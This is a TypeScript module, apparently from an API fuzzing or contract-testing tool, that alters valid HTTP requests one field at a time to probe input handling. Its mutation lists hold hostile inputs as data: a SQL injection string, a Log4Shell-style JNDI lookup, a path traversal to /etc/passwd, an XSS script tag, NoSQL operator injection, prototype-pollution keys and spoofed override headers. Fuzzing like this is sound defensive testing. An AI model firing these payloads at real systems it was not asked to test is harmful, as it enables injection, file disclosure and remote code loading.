import type { Chance } from '../chance.ts';
import type { Draft } from './request.ts';

type Path = readonly (string | number)[];
const isObject = (value: unknown): value is Record<string, unknown> =>
  typeof value === 'object' && value !== null && !Array.isArray(value);

/** Every place in a JSON value, the whole of it first. */
const placesIn = (value: unknown, path: Path = []): { path: Path; value: unknown }[] => {
  const inner = Array.isArray(value)
    ? value.slice(0, 20).flatMap((each: unknown, index) => placesIn(each, [...path, index]))
    : isObject(value)
      ? Object.entries(value).flatMap(([name, each]) => placesIn(each, [...path, name]))
      : [];
  return [{ path, value }, ...inner];
};

const replaced = (value: unknown, path: Path, made: (old: unknown) => unknown): unknown => {
  const [step, ...rest] = path;
  if (step === undefined) return made(value);
  if (Array.isArray(value))
    return value.map((each: unknown, index) => (index === step ? replaced(each, rest, made) : each));
  return isObject(value)
    ? Object.fromEntries(
        Object.entries(value).map(([name, each]) => [name, name === step ? replaced(each, rest, made) : each]),
      )
    : value;
};

const without = (value: unknown, name: string): unknown =>
  isObject(value) ? Object.fromEntries(Object.entries(value).filter(([each]) => each !== name)) : value;

const fullWidth = (text: string): string =>
  [...text]
    .map((sign) => (/[0-9a-z]/u.test(sign) ? String.fromCodePoint((sign.codePointAt(0) ?? 0) + 0xfee0) : sign))
    .join('');

/** Looks right, is another letter: Cyrillic for Latin, Arabic digits for ours, and marks nobody sees. */
const homoglyphs = (text: string): string =>
  text.replaceAll('a', 'а').replaceAll('e', 'е').replaceAll('0', '٠').replaceAll('1', '١') || '\u200b';

const texts: readonly ((text: string) => unknown)[] = [
  () => '',
  () => '   ',
  () => 'x'.repeat(5_000),
  () => '𠮷'.repeat(40),
  (text) => `${text}\n`,
  (text) => ` ${text}`,
  (text) => `${text}\u200b`,
  (text) => `\u202e${text}`,
  (text) => `${text}\u0001`,
  (text) => text.toUpperCase(),
  (text) => text.normalize('NFD'),
  homoglyphs,
  fullWidth,
  (text) => text.slice(1),
  (text) => [text],
  (text) => ({ value: text }),
  () => 12,
  () => true,
  () => null,
  () => '2026-02-30',
  () => '2026-13-01',
  () => '0000-00-00',
  () => '9999-12-31',
  () => '999999999',
  () => "'; DROP TABLE households; --",
  () => '${jndi:ldap://192.0.2.1/a}',
  () => '../../etc/passwd',
  () => '<script>alert(1)</script>',
];
const numbers: readonly ((number: number) => unknown)[] = [
  (number) => number + 0.5,
  (number) => -number - 1,
  () => -1,
  () => 1e12,
  () => 1e12 + 1,
  () => 2 ** 53,
  () => 1e21,
  () => 0,
  (number) => String(number),
  () => null,
  () => [1],
  () => true,
  (number) => ({ $gt: number }),
];
const others: readonly ((value: unknown) => unknown)[] = [
  () => 'true',
  () => 1,
  () => null,
  () => [],
  () => ({}),
  (value) => [value],
];

const bodyMutation = (draft: Draft, chance: Chance): string => {
  const { path, value } = chance.one(placesIn(draft.body));
  const at = `/${path.join('/')}`;
  const change = (how: string, made: (old: unknown) => unknown): string => {
    draft.body = replaced(draft.body, path, made);
    return `${how} at ${at}`;
  };
  if (isObject(value)) {
    const names = Object.keys(value);
    const choice = chance.whole(0, 4);
    if (choice <= 1 && names.length > 0) {
      const name = chance.one(names);
      return change(`left out ${name}`, (old) => without(old, name));
    }
    if (choice === 2) {
      const name = chance.one([
        'version',
        'state',
        'division',
        'isAdmin',
        'applicationId',
        'role',
        'tier',
        'x',
        'Name',
        '',
      ]);
      return change(`added ${name}`, (old) => ({
        ...(isObject(old) ? old : {}),
        [name]: chance.one(['x', 1, true, null]),
      }));
    }
    return change('another type', chance.one(others));
  }
  if (Array.isArray(value)) {
    const made = chance.one<(old: unknown[]) => unknown>([
      () => [],
      (old) => [...old, ...old],
      (old) => Array.from({ length: 260 }, (_, index): unknown => old[index % Math.max(1, old.length)] ?? {}),
      () => null,
      () => ({}),
      (old) => [...old, null],
    ]);
    return change('another list', (old) => made(Array.isArray(old) ? old : []));
  }
  if (typeof value === 'string') return change('another text', (old) => chance.one(texts)(String(old)));
  if (typeof value === 'number') return change('another number', (old) => chance.one(numbers)(Number(old)));
  return change('another value', chance.one(others));
};

const limits = [
  '0',
  '-1',
  '101',
  '501',
  '1e2',
  '0x10',
  ' 5',
  '5 ',
  '5.0',
  '+5',
  '٣',
  '',
  'NaN',
  '99999999999999999999',
  '5,5',
  'null',
];
const counties = [
  '',
  '14',
  '1401',
  '140121100',
  '130121',
  '14012',
  '14０121',
  '140121 ',
  "140121'",
  '999999',
  '149999',
];

const queryMutation = (draft: Draft, chance: Chance): string => {
  const set = (name: string, value: string): string => {
    draft.query = [...draft.query.filter(([each]) => each !== name), [name, value]];
    return `query ${name}=${JSON.stringify(value)}`;
  };
  const [first] = draft.query;
  switch (chance.whole(0, 6)) {
    case 0:
      return set(chance.one(['x', 'Limit', '__proto__', 'constructor', 'toString', 'county[]', '']), 'x');
    case 1:
      if (first === undefined) return set('limit', '5');
      draft.query = [...draft.query, first];
      return `query ${first[0]} twice`;
    case 2:
      return set(
        'cursor',
        chance.one(['x', 'e30.e30', `${'a'.repeat(40)}.${'b'.repeat(43)}`, 'x'.repeat(2_100), '..', '']),
      );
    case 3:
      return set('county', chance.one(counties));
    default:
      return set('limit', chance.one(limits));
  }
};

const ids: readonly ((id: string) => string)[] = [
  (id) => id.toUpperCase(),
  (id) => id.replace(/^[a-z]+_/u, 'hh_'),
  (id) => id.slice(0, -1),
  (id) => `${id}0`,
  (id) => ` ${id}`,
  (id) => `${id}\n`,
  (id) => `${id}\0`,
  (id) => `${id}/..`,
  (id) => fullWidth(id),
  (id) => homoglyphs(id),
  () => '*',
  () => '__proto__',
  () => 'x'.repeat(3_000),
  (id) => `${id},${id}`,
  (id) => `${id}#STATE`,
];

const pathMutation = (draft: Draft, chance: Chance): string => {
  const [name] = Object.keys(draft.params);
  if (name === undefined) return queryMutation(draft, chance);
  draft.params[name] = chance.one(ids)(draft.params[name] ?? '');
  return `path ${name}=${JSON.stringify(draft.params[name].slice(0, 60))}`;
};

const keys = [
  '',
  'short',
  'x'.repeat(129),
  'with a blank in it',
  'ключ-идемпотентности',
  'tab\tinside-it',
  '\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007',
];
const tags = ['', '*', 'W/"1"', '"1", "2"', '1', "'1'", '"01"', '"-1"', '"1.0"', '"9999999999"', '""', '"1', '"٣"'];
const types = [
  '',
  'text/plain',
  'application/xml',
  'application/json; charset=gbk',
  'application/json, application/json',
  'multipart/form-data; boundary=x',
  'application/vnd.api+json',
  'APPLICATION/JSON;charset="UTF-8"',
];

const headerMutation = (draft: Draft, chance: Chance): string => {
  const set = (name: string, value: string): string => {
    draft.headers[name] = value;
    return `header ${name}: ${JSON.stringify(value.slice(0, 60))}`;
  };
  const omit = (name: string): string => {
    draft.headers = Object.fromEntries(Object.entries(draft.headers).filter(([each]) => each !== name));
    return `header ${name} left out`;
  };
  switch (chance.whole(0, 6)) {
    case 0:
      return set('idempotency-key', chance.one(keys));
    case 1:
      return omit('idempotency-key');
    case 2:
      return set('if-match', chance.one(tags));
    case 3:
      return omit('if-match');
    case 4:
      return set('content-type', chance.one(types));
    case 5:
      return set(
        'accept-language',
        chance.one(['', 'xx', 'zh;q=NaN', 'en;q=9', ',,,,', `${'en,'.repeat(2_000)}zh`, '*;q=0', '__proto__']),
      );
    default:
      return set(
        chance.one([
          'x-correlation-id',
          'content-encoding',
          'x-forwarded-for',
          'x-http-method-override',
          'x-request-id',
          'authorization',
        ]),
        chance.one(['gzip', 'DELETE', '127.0.0.1', '\u0001', 'x'.repeat(9_000), '${x}']),
      );
  }
};

/** Changes one thing of a valid request. Whether the document still allows it is judged afterwards, by the document. */
export const nearValid = (draft: Draft, chance: Chance): string => {
  if (draft.body !== undefined && chance.is(0.65)) return bodyMutation(draft, chance);
  return chance.one([queryMutation, pathMutation, headerMutation])(draft, chance);
};
